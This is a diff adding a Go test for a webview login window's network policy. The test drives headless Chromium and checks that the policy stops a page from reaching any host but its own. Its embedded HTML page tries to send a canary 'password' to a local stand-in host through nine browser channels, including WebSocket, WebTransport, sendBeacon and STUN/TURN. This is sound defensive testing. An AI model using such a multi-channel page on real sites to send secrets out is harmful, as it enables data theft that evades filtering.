@@ -1,0 +1,281 @@
+package webview
+
+import (
+	"bufio"
+	"encoding/json"
+	"fmt"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"slices"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/kiteaccounts/kite-accounts/backend/kite"
+	"github.com/kiteaccounts/kite-accounts/backend/loginwindow"
+)
+
+// WebView2 is Chromium: here that is started with WebView2's arguments, and its
+// requests are judged as WebView2's are.
+
+// argumentsIn splits a command line as Windows does. There is no backslash.
+// https://learn.microsoft.com/en-us/windows/win32/api/shellapi/nf-shellapi-commandlinetoargvw
+func argumentsIn(line string) (all []string) {
+	quoted := false
+	for _, word := range strings.FieldsFunc(line, func(r rune) bool {
+		quoted = quoted != (r == '"')
+		return r == ' ' && !quoted
+	}) {
+		all = append(all, strings.ReplaceAll(word, `"`, ""))
+	}
+	return all
+}
+
+// enticing is a page that tries everything to reach another host, and asks for
+// /done when there is nothing to wait for any more.
+const enticing = `<!doctype html><script>
+const there = '%s', datagrams = '%s', secret = '/?password=canary'
+const settled = (made) => Promise.race([made.catch(() => {}), new Promise(r => setTimeout(r, 3000))])
+const socket = () => new Promise(r => { const s = new WebSocket('ws://' + there + secret); s.onopen = s.onerror = s.onclose = r })
+const worker = () => new Promise(r => { const w = new Worker(URL.createObjectURL(new Blob([
+  'const s = new WebSocket("ws://' + there + secret + '"); s.onopen = s.onerror = s.onclose = () => postMessage(1)']))); w.onmessage = w.onerror = r })
+const preconnect = () => new Promise(r => { const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'http://' + there; document.head.append(l); setTimeout(r, 300) })
+const image = () => new Promise(r => { const i = new Image(); i.onload = i.onerror = r; i.src = 'http://' + there + secret })
+const transport = async () => { const t = new WebTransport('https://' + datagrams + secret); t.closed.catch(() => {}); await t.ready }
+const peers = (servers) => new Promise(async r => {
+  const c = new RTCPeerConnection({ iceServers: servers, iceTransportPolicy: 'all' })
+  c.onicegatheringstatechange = () => c.iceGatheringState === 'complete' && r()
+  c.createDataChannel('d'); await c.setLocalDescription()
+})
+const tries = {
+  socket, worker, preconnect, image, transport,
+  fetch: () => fetch('http://' + there + secret, { mode: 'no-cors' }),
+  beacon: async () => navigator.sendBeacon('http://' + there + secret, 'canary'),
+  stun: () => peers([{ urls: 'stun:' + datagrams }]),
+  turn: () => peers([{ urls: 'turn:' + there + '?transport=tcp', username: 'canary', credential: 'canary' }]),
+}
+settled(tries['%s']()).then(() => fetch('/done'))
+</script>`
+
+// elsewhere is a host of its own that notes whoever comes.
+type elsewhere struct {
+	there, datagrams string
+
+	mu    sync.Mutex
+	comes int
+}
+
+func (e *elsewhere) note() {
+	e.mu.Lock()
+	e.comes++
+	e.mu.Unlock()
+}
+
+func (e *elsewhere) visits() int {
+	e.mu.Lock()
+	defer e.mu.Unlock()
+	return e.comes
+}
+
+func startElsewhere(t *testing.T) *elsewhere {
+	t.Helper()
+	l, err := net.Listen("tcp", "127.0.0.2:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	p, err := net.ListenPacket("udp", "127.0.0.2:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = l.Close(); _ = p.Close() })
+	e := &elsewhere{there: l.Addr().String(), datagrams: p.LocalAddr().String()}
+	go func() {
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			e.note()
+			_ = c.Close()
+		}
+	}()
+	go func() {
+		for {
+			if _, _, err := p.ReadFrom(make([]byte, 2048)); err != nil {
+				return
+			}
+			e.note()
+		}
+	}()
+	return e
+}
+
+// chromium is a running one that is spoken to through pipes: messages of the
+// DevTools protocol, each with a NUL at its end.
+type chromium struct {
+	t    *testing.T
+	to   *os.File
+	from *bufio.Reader
+	last int
+	held func(parameters string) (method, answer string) // nil lets all requests go
+}
+
+type protocolMessage struct {
+	ID        int             `json:"id,omitempty"`
+	Method    string          `json:"method,omitempty"`
+	Params    json.RawMessage `json:"params,omitempty"`
+	Result    json.RawMessage `json:"result,omitempty"`
+	Error     json.RawMessage `json:"error,omitempty"`
+	SessionID string          `json:"sessionId,omitempty"`
+}
+
+func startChromium(t *testing.T, arguments []string) *chromium {
+	t.Helper()
+	theirs, to, err := os.Pipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	from, theirsToo, err := os.Pipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command("chromium", slices.Concat(arguments, []string{
+		"--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--remote-debugging-pipe", "--user-data-dir=" + t.TempDir(), "about:blank",
+	})...)
+	cmd.ExtraFiles = []*os.File{theirs, theirsToo}
+	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	_, _ = theirs.Close(), theirsToo.Close()
+	t.Cleanup(func() {
+		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
+		_ = cmd.Wait()
+		_, _ = to.Close(), from.Close()
+	})
+	_ = from.SetReadDeadline(time.Now().Add(time.Minute))
+	return &chromium{t: t, to: to, from: bufio.NewReader(from)}
+}
+
+func (c *chromium) send(session, method, params string) (id int) {
+	c.t.Helper()
+	c.last++
+	text, err := json.Marshal(protocolMessage{ID: c.last, Method: method, Params: json.RawMessage(params), SessionID: session})
+	if err == nil {
+		_, err = c.to.Write(append(text, 0))
+	}
+	if err != nil {
+		c.t.Fatal(err)
+	}
+	return c.last
+}
+
+// hear reads a message, and answers for a request that waits.
+func (c *chromium) hear() (m protocolMessage, err error) {
+	text, err := c.from.ReadBytes(0)
+	if err != nil {
+		return m, err
+	}
+	if err := json.Unmarshal(text[:len(text)-1], &m); err != nil {
+		return m, err
+	}
+	if m.Method == interceptEvent {
+		if method, answer := c.held(string(m.Params)); method != "" {
+			c.send(m.SessionID, method, answer)
+		}
+	}
+	return m, nil
+}
+
+// call does something and reads its result.
+func (c *chromium) call(session, method, params string, result any) {
+	c.t.Helper()
+	id := c.send(session, method, params)
+	for {
+		m, err := c.hear()
+		if err != nil {
+			c.t.Fatalf("%s: %v", method, err)
+		}
+		if m.ID != id {
+			continue
+		}
+		if m.Error != nil || json.Unmarshal(m.Result, result) != nil {
+			c.t.Fatalf("%s: %s", method, m.Error)
+		}
+		return
+	}
+}
+
+// visit loads a page and goes on until done is closed.
+func (c *chromium) visit(url string, done <-chan struct{}) {
+	c.t.Helper()
+	var target struct{ TargetID, SessionID string }
+	c.call("", "Target.createTarget", `{"url":"about:blank"}`, &target)
+	c.call("", "Target.attachToTarget", fmt.Sprintf(`{"targetId":%q,"flatten":true}`, target.TargetID), &target)
+	if c.held != nil {
+		c.call(target.SessionID, interceptMethod, interceptAll, &struct{}{})
+	}
+	c.send(target.SessionID, "Page.navigate", fmt.Sprintf(`{"url":%q}`, url))
+	heard := make(chan error, 1)
+	go func() {
+		for {
+			if _, err := c.hear(); err != nil {
+				heard <- err
+				return
+			}
+		}
+	}()
+	select {
+	case <-done:
+	case err := <-heard:
+		c.t.Errorf("the page wasn't done: %v", err)
+	}
+}
+
+// reached says how often a page that is let try something got to another host.
+func reached(t *testing.T, try string, restricted bool) int {
+	t.Helper()
+	other, done := startElsewhere(t), make(chan struct{})
+	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/done" {
+			close(done)
+			return
+		}
+		w.Header().Set("Content-Type", "text/html")
+		_, _ = fmt.Fprintf(w, enticing, other.there, other.datagrams, try)
+	}))
+	t.Cleanup(site.Close)
+	job := kite.LoginJob{AccountType: kite.Sandbox, LoginURL: site.URL + "/connect/login", CallbackURL: "http://127.0.0.3/cb"}
+	policy := loginwindow.NewPolicy(job)
+	var arguments []string
+	if restricted {
+		arguments = argumentsIn(browserArguments(policy, nil))
+	}
+	c := startChromium(t, arguments)
+	if restricted {
+		b, _ := judging(t)
+		b.policy, b.committed = policy, job.LoginURL
+		c.held = b.intercept
+	}
+	c.visit(job.LoginURL, done)
+	return other.visits()
+}
+
+func TestChromium_reaches_the_policys_hosts_alone_whatever_a_page_tries(t *testing.T) {
+	for _, try := range []string{"socket", "worker", "preconnect", "image", "transport", "fetch", "beacon", "stun", "turn"} {
+		t.Run(try, func(t *testing.T) {
+			t.Parallel()
+			if reached(t, try, false) == 0 {
+				t.Error("the test can't fail: without restrictions nobody was reached either")
+			}
+			if n := reached(t, try, true); n != 0 {
+				t.Errorf("another host was reached %d times", n)
+			}
+		})
+	}
+}
